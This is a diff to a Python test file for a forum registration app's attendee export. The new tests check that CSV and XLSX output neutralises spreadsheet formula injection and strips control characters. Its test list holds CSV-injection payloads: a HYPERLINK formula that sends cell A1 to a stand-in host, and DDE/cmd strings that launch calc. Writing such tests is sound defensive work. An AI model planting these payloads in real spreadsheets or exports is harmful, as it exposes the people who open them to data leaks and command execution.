@@ -147,9 +147,83 @@ async def test_export_csv_has_a_bom_and_every_column_and_xlsx_opens(app: App) ->
     assert sheet is not None and sheet.cell(2, 3).value == "Айгерім Сейітова"
 
 
-def test_spreadsheet_formulas_are_neutralised() -> None:
-    assert forums._safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
-    assert forums._safe_cell("+4915112345678") == "+4915112345678"
+# What people could type as their name or organization to make a coordinator's
+# spreadsheet run something (OWASP's "CSV injection" examples and their variants).
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1, \"Click\")", "=1+HYPERLINK(\"http://x\")",
+            "-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=1", "+1", "-1", "@1", "=0x1", "+7 701 234 5678", "-", "=", "\t=1+1",
+            "\r=1+1", "\t\t-1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+            "@NOW()", "+A1", "-A1*2"]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def exported_rows(names: list[str]) -> list[dict[str, object]]:
+    return [{column: "" for column in forums.EXPORT_COLUMNS} | {
+        "number": number, "status": "confirmed", "full_name": name, "organization": name,
+        "phone": "+4915112345678", "waiting_position": ""}
+        for number, name in enumerate(names, 1)]
+
+
+HEADER = {column: column.replace("_", " ").title() for column in forums.EXPORT_COLUMNS}
+
+
+def test_no_csv_cell_starts_like_a_formula() -> None:
+    data = forums.to_csv(exported_rows(FORMULAS), HEADER)
+    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    cells = [cell for row in table[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    names = [row[2] for row in table[1:]]
+    assert names == ["'" + name for name in FORMULAS]  # shown as typed, after the quote
+    assert table[1][7] == "'+4915112345678"
+
+
+def test_no_xlsx_cell_is_a_formula() -> None:
+    book = load_workbook(io.BytesIO(forums.to_xlsx(exported_rows(FORMULAS), HEADER, "=1+1")))
+    sheet = book.active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert not [cell.value for cell in cells
+                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
+    assert sheet.cell(2, 1).value == 1 and sheet.cell(2, 1).data_type == "n"
+
+
+def test_control_characters_are_dropped_and_the_list_comes_out() -> None:
+    names = ["Ай\x1bгерім", "Nul\x00l", "Bell\x07 \x7fDel\x85", "Lone\ud800\ufffe",
+             "Line\nbreak\tand tab"]
+    rows = exported_rows(names)
+    expected = ["Айгерім", "Null", "Bell Del", "Lone", "Line\nbreak\tand tab"]
+    table = list(csv.reader(io.StringIO(forums.to_csv(rows, HEADER).decode("utf-8-sig"),
+                                        newline="")))
+    assert [row[2] for row in table[1:]] == expected
+    sheet = load_workbook(io.BytesIO(forums.to_xlsx(rows, HEADER, "Ber[lin]:\x1b"))).active
+    assert sheet is not None and sheet.title == "Ber lin"
+    assert [sheet.cell(row, 3).value for row in range(2, 2 + len(names))] == expected
+
+
+def test_the_cleaning_drops_all_that_openpyxl_refuses() -> None:
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    refused = [chr(code) for code in range(0x10000) if ILLEGAL_CHARACTERS_RE.match(chr(code))]
+    assert refused and all(forums.safe_cell(f"a{char}b") == "ab" for char in refused)
+    assert forums.safe_cell(12) == 12 and forums.safe_cell(None) is None
+
+
+async def test_a_forum_with_an_escape_in_a_name_still_exports(app: App) -> None:
+    forum_id, users = await setup(app, capacity=2, people=2)
+    async with app.engine.sessionmaker() as db, db.begin():
+        for user, name in zip(users, ["Ай\x1bгерім", "=1+HYPERLINK(\"http://x\")"],
+                              strict=True):
+            await forums.register(db, forum_id, user, DETAILS | {"full_name": name},
+                                  clock.now(), OFFSETS)
+    async with app.engine.sessionmaker() as db:
+        forum = await forums.get(db, forum_id)
+        assert forum is not None
+        rows = await forums.attendee_rows(db, forum)
+    sheet = load_workbook(io.BytesIO(forums.to_xlsx(rows, HEADER, "Berlin"))).active
+    assert sheet is not None
+    assert [sheet.cell(row, 3).value for row in (2, 3)] == [
+        "Айгерім", "'=1+HYPERLINK(\"http://x\")"]
 
 
 async def test_forum_changes_move_reminders_and_notify(app: App) -> None:
